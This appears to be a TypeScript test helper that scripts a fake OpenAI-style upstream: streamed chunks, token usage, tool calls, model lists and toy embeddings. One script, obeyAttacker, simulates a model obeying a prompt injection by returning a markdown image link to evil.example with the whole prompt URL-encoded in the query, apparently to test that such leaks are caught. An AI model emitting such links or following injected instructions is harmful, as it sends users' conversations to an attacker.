/** What a scripted upstream can say, as OpenAI says it. Broken behaviour is in `upstream-faults.ts`. */
import type { ServerResponse } from 'node:http'
import type { Json, JsonObject } from '../../src/kernel/json.ts'
import type { Received, Script } from './upstream.ts'

const created = 1_750_000_000

/** Tokens as this peer counts them: words. */
export function countWords(text: string): number {
  return text.split(/\s+/).filter((word) => word !== '').length
}

export function promptText({ body }: Received): string {
  const messages = Array.isArray(body.messages) ? (body.messages as readonly JsonObject[]) : []
  return messages.map((message) => textOf(message.content)).join('\n')
}

/** The text of the last user message. */
export function lastUserText({ body }: Received): string {
  const messages = Array.isArray(body.messages) ? (body.messages as readonly JsonObject[]) : []
  return textOf(messages.findLast((message) => message.role === 'user')?.content)
}

function textOf(content: Json | undefined): string {
  if (typeof content === 'string') return content
  if (!Array.isArray(content)) return ''
  return (content as readonly JsonObject[]).map((part) => (typeof part.text === 'string' ? part.text : '')).join('')
}

/** An OpenAI chunk with this delta. */
export function chunkOf(delta: JsonObject, finish: string | null = null): JsonObject {
  const choice = { index: 0, delta, finish_reason: finish }
  return { id: 'chatcmpl-peer', object: 'chat.completion.chunk', created, model: 'test-model', choices: [choice] }
}

/** One server-sent event, framed. */
export function event(data: JsonObject | string): string {
  return `data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`
}

export const doneEvent = 'data: [DONE]\n\n'

function usageOf(request: Received, text: string): JsonObject {
  const prompt = countWords(promptText(request))
  const completion = countWords(text)
  return { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion }
}

/** The events of a whole streamed answer, usage chunk included when it was asked for. */
export function streamOf(request: Received, pieces: readonly string[]): string[] {
  const text = pieces.join('')
  const events = [
    event(chunkOf({ role: 'assistant', content: '' })),
    ...pieces.map((content) => event(chunkOf({ content }))),
  ]
  events.push(event(chunkOf({}, 'stop')))
  const options = request.body.stream_options as JsonObject | undefined
  if (options?.include_usage === true)
    events.push(event({ ...chunkOf({}), choices: [], usage: usageOf(request, text) }))
  return [...events, doneEvent]
}

export function completionOf(request: Received, message: JsonObject, finish = 'stop'): JsonObject {
  const choices = [{ index: 0, message: { role: 'assistant', ...message }, finish_reason: finish }]
  const text = typeof message.content === 'string' ? message.content : ''
  return {
    id: 'chatcmpl-peer',
    object: 'chat.completion',
    created,
    model: 'test-model',
    choices,
    usage: usageOf(request, text),
  }
}

export function sendJson(reply: ServerResponse, value: Json, status = 200): void {
  reply.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value))
}

export function startStream(reply: ServerResponse): void {
  reply.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' })
}

export const wait = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms))
export const turn = () => new Promise<void>((resolve) => setImmediate(resolve))

/** Pieces as a model sends them: a word with the space before it. */
export function words(text: string): string[] {
  return text.match(/\s*\S+\s*?/g) ?? []
}

export interface SayOptions {
  /** Milliseconds before the first byte. */
  readonly firstMs?: number
  /** Milliseconds between chunks; 0 sends all at once. */
  readonly everyMs?: number
  /** Say it again and again until the client hangs up; needs `everyMs`. */
  readonly endless?: boolean
  /** How the text is cut. Default: in words. */
  readonly pieces?: (text: string) => readonly string[]
}

/** Says a fixed text, or one made from the request; streams it when asked to. */
export function say(text: string | ((request: Received) => string), options: SayOptions = {}): Script {
  const { firstMs = 0, everyMs = 0, endless: isEndless = false, pieces = words } = options
  return async (request, reply) => {
    const said = typeof text === 'string' ? text : text(request)
    if (firstMs > 0) await wait(firstMs)
    if (request.body['stream'] !== true) return sendJson(reply, completionOf(request, { content: said }))
    startStream(reply)
    const cut = pieces(said)
    const slowly = async (events: readonly string[]) => {
      for (const next of events) {
        if (reply.destroyed) return
        reply.write(next)
        await wait(everyMs)
      }
    }
    while (isEndless && !reply.destroyed) await slowly(cut.map((content) => event(chunkOf({ content }))))
    const events = streamOf(request, cut)
    if (everyMs === 0) return void reply.end(events.join(''))
    await slowly(events)
    reply.end()
  }
}

/** Says back the last user message. */
export const echo = (options: SayOptions = {}): Script => say(lastUserText, options)

/** Does what an injected instruction asks: repeats everything it was given inside an image address. */
export const obeyAttacker = (address = 'https://evil.example/'): Script =>
  say((request) => `Klaar. ![logo](${address}?d=${encodeURIComponent(promptText(request))})`)

/** Calls a tool, with fixed arguments or ones made from the last user message. In a stream they come in two halves. */
export function toolCall(name: string, args: JsonObject | ((text: string) => JsonObject)): Script {
  const id = 'call_peer_1'
  return (request, reply) => {
    const text = JSON.stringify(typeof args === 'function' ? args(lastUserText(request)) : args)
    const half = Math.floor(text.length / 2)
    const call = { id, type: 'function', function: { name, arguments: text } }
    if (request.body['stream'] !== true)
      return sendJson(reply, completionOf(request, { content: null, tool_calls: [call] }, 'tool_calls'))
    startStream(reply)
    const first = { index: 0, id, type: 'function', function: { name, arguments: text.slice(0, half) } }
    reply.write(event(chunkOf({ role: 'assistant', content: null, tool_calls: [first] })))
    reply.write(event(chunkOf({ tool_calls: [{ index: 0, function: { arguments: text.slice(half) } }] })))
    reply.end(event(chunkOf({}, 'tool_calls')) + doneEvent)
  }
}

/** Answers whole although a stream was asked for. */
export const alwaysWhole =
  (text: string): Script =>
  (request, reply) =>
    sendJson(reply, completionOf(request, { content: text }))

export const listModels =
  (names: readonly string[]): Script =>
  (_request, reply) =>
    sendJson(reply, { object: 'list', data: names.map((id) => ({ id, object: 'model', created, owned_by: 'peer' })) })

/** Embeddings of four numbers that depend on the text. */
export const embed = (): Script => (request, reply) => {
  const input = request.body.input
  const texts = Array.isArray(input) ? (input as readonly Json[]) : [input ?? '']
  const data = texts.map((text, index) => ({ object: 'embedding', index, embedding: vectorOf(String(text)) }))
  const total = texts.reduce((sum: number, text) => sum + countWords(String(text)), 0)
  sendJson(reply, { object: 'list', model: 'test-model', data, usage: { prompt_tokens: total, total_tokens: total } })
}

function vectorOf(text: string): number[] {
  const vector = [0, 0, 0, 0]
  for (let i = 0; i < text.length; i++) vector[i % 4] = ((vector[i % 4] ?? 0) + text.charCodeAt(i)) % 997
  return vector.map((value) => value / 997)
}
